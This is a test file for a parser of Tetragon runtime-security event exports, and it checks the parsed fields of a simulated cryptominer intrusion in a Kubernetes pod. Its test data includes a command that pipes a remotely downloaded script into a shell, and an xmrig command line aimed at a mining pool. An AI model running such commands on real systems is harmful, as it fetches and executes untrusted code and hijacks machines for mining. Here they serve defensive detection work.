import assert from 'node:assert/strict';
import { test } from 'node:test';
import { countsOf, cutLineCase, fileInput, memoryInput, readAll, runLineFuzz, runSourceContract } from './contract.js';
import { sniffSource } from './index.js';
import { tetragon } from './tetragon.js';

const good = fileInput('test/fixtures/tetragon/export.json');
const bad = fileInput('test/fixtures/tetragon/bad.json');
runSourceContract({
  source: tetragon,
  good,
  bad,
  // the export copied while the miner's exec was written: it ends inside the arguments string
  cut: cutLineCase(good, 3, '"arguments":"-o stratum+tcp://', 'pool.cutoff-example.net:3'),
});

test('exec, exit and tcp_connect map to exec, exit and connect; other kprobes are unused', async () => {
  const { events } = await readAll(tetragon, good);
  assert.deepEqual(
    events.map((e) => [e.event.dataset, e.event.action, e.coalmine.ref.line]),
    [
      ['tetragon.process_exec', 'exec', 1],
      ['tetragon.process_exec', 'exec', 2],
      ['tetragon.process_exit', 'exit', 3],
      ['tetragon.process_exec', 'exec', 4],
      ['tetragon.process_kprobe', 'connect', 5],
      ['tetragon.process_exec', 'exec', 7],
      ['tetragon.process_exec', 'exec', 8],
      ['tetragon.process_exec', 'exec', 9],
      ['tetragon.process_exit', 'exit', 10],
      ['tetragon.process_exit', 'exit', 11],
    ],
  );
  assert.equal((await countsOf(tetragon, good)).unused, 1);
});

test('a miner exec inside a DaemonSet pod: process, parent, user, container, image and pod', async () => {
  const { events } = await readAll(tetragon, good);
  const miner = events[3];
  assert.equal(miner['@timestamp'], '2026-12-01T10:00:05.250Z');
  assert.deepEqual(miner.host, { name: 'worker-2', os: { platform: 'linux' } });
  assert.deepEqual(miner.user, { id: '0' });
  const p = miner.process;
  assert.equal(p?.pid, 4120);
  assert.equal(p?.entity_id, 'd29ya2VyLTI6NTo0MTIw');
  assert.equal(p?.executable, '/tmp/.x/xmrig');
  assert.equal(p?.name, 'xmrig');
  assert.equal(p?.working_directory, '/tmp/.x');
  assert.equal(p?.start, '2026-12-01T10:00:05.123Z');
  assert.match(p?.command_line ?? '', /^\/tmp\/\.x\/xmrig -o stratum\+tcp:\/\/pool\.supportxmr\.com:3333 -u 44AFF/);
  assert.deepEqual(p?.args?.slice(0, 3), ['/tmp/.x/xmrig', '-o', 'stratum+tcp://pool.supportxmr.com:3333']);
  assert.equal(p?.args?.length, 6);
  assert.deepEqual(p?.parent, {
    pid: 4101,
    entity_id: 'd29ya2VyLTI6MTo0MTAx',
    name: 'sh',
    executable: '/bin/sh',
    command_line: '/bin/sh -c "curl -fsSL http://198.51.100.7/x.sh | sh"',
  });
  assert.deepEqual(miner.container, {
    runtime: 'containerd',
    id: '9f1c2a4b6d8e0f1a3b5c7d9e1f2a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c',
    name: 'exporter',
    image: {
      name: 'docker.io/kinsing/node-exporter',
      tag: 'latest',
      hash: { all: [`sha256:${'ab'.repeat(32)}`] },
    },
  });
  assert.deepEqual(miner.orchestrator, {
    namespace: 'default',
    resource: { type: 'pod', name: 'node-exporter-x7k2p', parent: { type: 'DaemonSet', name: 'node-exporter' } },
  });
});

test('quoted arguments are split as a shell would; an exec without arguments has argv[0] only', async () => {
  const { events } = await readAll(tetragon, good);
  assert.deepEqual(events[0].process?.args, ['/bin/sh', '-c', 'curl -fsSL http://198.51.100.7/x.sh | sh']);
  assert.deepEqual(events[5].process?.args, ['/usr/sbin/nginx', '-g', 'daemon off;']);
  assert.deepEqual(events[6].process?.args, ['/bin/bash']);
  assert.equal(events[6].process?.command_line, '/bin/bash');
  assert.deepEqual(events[5].user, { id: '101' });
});

test('tcp_connect is an outbound connect from the pod address to the pool, with the process', async () => {
  const { events } = await readAll(tetragon, good);
  const c = events[4];
  assert.deepEqual(c.source, { ip: '10.244.1.17', port: 41872 });
  assert.deepEqual(c.destination, { ip: '198.51.100.23', port: 3333 });
  assert.deepEqual(c.network, { transport: 'tcp', direction: 'outbound' });
  assert.equal(c.process?.entity_id, 'd29ya2VyLTI6NTo0MTIw');
  assert.equal(c.original.function_name, 'tcp_connect');
  assert.equal(c.container?.name, 'exporter');
});

test('exit keeps the status and signal in original', async () => {
  const { events } = await readAll(tetragon, good);
  assert.equal(events[2].original.status, 0);
  assert.equal(events[9].original.signal, 'SIGKILL');
  assert.equal(events[9].process?.pid, 4120);
});

test('bad records are reported by line with a reason, the good ones are read', async () => {
  const { events, issues } = await readAll(tetragon, bad);
  assert.deepEqual(
    issues.map((i) => [i.line, i.code]),
    [
      [2, 'TETRAGON_BAD_JSON'],
      [3, 'TETRAGON_BAD_RECORD'],
      [4, 'TETRAGON_BAD_RECORD'],
      [5, 'TETRAGON_BAD_RECORD'],
      [6, 'TETRAGON_BAD_RECORD'],
      [7, 'TETRAGON_BAD_RECORD'],
      [8, 'TETRAGON_BAD_RECORD'],
    ],
  );
  assert.match(issues[1].reason, /time "yesterday" is not a time/);
  assert.match(issues[2].reason, /process_exec is not an object/);
  assert.match(issues[3].reason, /process_exit without a process/);
  assert.match(issues[4].reason, /neither pid nor exec_id/);
  assert.match(issues[5].reason, /no Tetragon event type/);
  assert.deepEqual(
    events.map((e) => e.coalmine.ref.line),
    [1, 10],
  );
  assert.equal((await countsOf(tetragon, bad)).unused, 1);
});

test('without node_name the host is the input hint; hostile fields are bounded', async () => {
  const line = JSON.stringify({
    process_exec: {
      process: {
        exec_id: 'x'.repeat(5000),
        pid: 7,
        binary: `/tmp/${'a'.repeat(10_000)}`,
        arguments: Array.from({ length: 1000 }, (_, i) => `-${i}`).join(' '),
        pod: { namespace: 42, name: ['not', 'a', 'name'], container: { id: 'containerd://not-hex', image: 'x' } },
        uid: -1,
      },
    },
    time: '2026-12-01T10:00:00Z',
  });
  const { events, issues } = await readAll(tetragon, memoryInput('t.json', `${line}\n`, { hostHint: 'node-9' }));
  assert.deepEqual(issues, []);
  const e = events[0];
  assert.equal(e.host?.name, 'node-9');
  assert.ok((e.process?.entity_id?.length ?? 0) < 300);
  assert.ok((e.process?.executable?.length ?? 0) < 4200);
  assert.equal(e.process?.args?.length, 128);
  assert.equal(e.user, undefined);
  assert.equal(e.container, undefined);
  assert.equal(e.orchestrator, undefined);
});

runLineFuzz(tetragon, {
  from: [good],
  seed: 1337,
  keys: /"(pid|time|binary|arguments|pod|process|daddr)":/g,
});

test('the export sniffs as tetragon, not as generic NDJSON', () => {
  assert.equal(sniffSource(good)?.name, 'tetragon');
  assert.equal(tetragon.sniff('{"@timestamp":"2026-12-01T10:00:00Z","event":{"action":"exec"}}\n', good), 0);
});

test('a record without a top-level time: an exec takes its process start_time and still sniffs; other types stay bad', async () => {
  // Tetragon's own testdata/events.json opens with such an exec (the exporter left `time` unset)
  const process = (binary: string) => ({
    exec_id: `id-${binary}`,
    pid: 68790,
    binary,
    start_time: '2022-10-18T03:16:18.273546829Z',
    pod: { namespace: 'default', name: 'tiefighter' },
  });
  const exec = JSON.stringify({ process_exec: { process: process('/usr/bin/netserver') }, node_name: 'my-node' });
  const exit = JSON.stringify({ process_exit: { process: process('/usr/bin/whoami') }, node_name: 'my-node' });
  const badTime = JSON.stringify({
    process_exec: { process: process('/bin/sh') },
    node_name: 'my-node',
    time: 'yesterday',
  });
  const noStart = JSON.stringify({ process_exec: { process: { pid: 7, binary: '/bin/true' } }, node_name: 'my-node' });
  const text = `${exec}\n${exit}\n${badTime}\n${noStart}\n`;
  const input = memoryInput('no-time.json', text);
  assert.equal(sniffSource(input)?.name, 'tetragon');
  const { events, issues } = await readAll(tetragon, input);
  assert.deepEqual(
    events.map((e) => [e.coalmine.ref.line, e.event.action, e['@timestamp']]),
    [[1, 'exec', '2022-10-18T03:16:18.273Z']],
  );
  assert.deepEqual(
    issues.map((i) => [i.line, i.code]),
    [
      [2, 'TETRAGON_BAD_RECORD'],
      [3, 'TETRAGON_BAD_RECORD'],
      [4, 'TETRAGON_BAD_RECORD'],
    ],
  );
  assert.match(issues[0].reason, /time is missing/);
  assert.match(issues[1].reason, /time "yesterday" is not a time/);
  assert.match(issues[2].reason, /time is missing/);
});
